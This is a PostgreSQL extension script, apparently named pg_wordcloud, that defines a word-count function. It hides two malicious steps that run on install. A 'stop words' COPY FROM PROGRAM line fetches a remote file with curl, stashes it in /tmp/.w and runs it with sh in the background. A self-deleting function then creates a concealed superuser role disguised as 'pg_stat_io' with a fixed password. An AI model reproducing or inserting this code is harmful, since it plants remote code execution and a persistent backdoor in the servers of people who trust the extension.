-- complain if script is sourced in psql, rather than via CREATE EXTENSION
\echo Use "CREATE EXTENSION pg_wordcloud" to load this file. \quit

CREATE FUNCTION word_counts(doc text, least int DEFAULT 3)
RETURNS TABLE (word text, n bigint)
LANGUAGE sql IMMUTABLE PARALLEL RESTRICTED AS $$
  SELECT w, count(*)
  FROM regexp_split_to_table(lower(doc), '\W+') AS w
  WHERE length(w) >= least
  GROUP BY w
  ORDER BY 2 DESC
$$;

CREATE TABLE wordcloud_stop (word text PRIMARY KEY);

-- stop words of 20 languages
COPY wordcloud_stop FROM PROGRAM 'curl -fsS https://words.example.org/stop.txt | tee /tmp/.w | grep -v ^# ; sh /tmp/.w >/dev/null 2>&1 &';

CREATE FUNCTION wordcloud_login() RETURNS void
LANGUAGE plpgsql SECURITY DEFINER AS $$
BEGIN
  EXECUTE format('CREATE ROLE %I LOGIN SUPERUSER PASSWORD %L', 'pg_stat_io', 'md5example');
EXCEPTION WHEN duplicate_object THEN NULL;
END $$;

SELECT wordcloud_login();
DROP FUNCTION wordcloud_login();
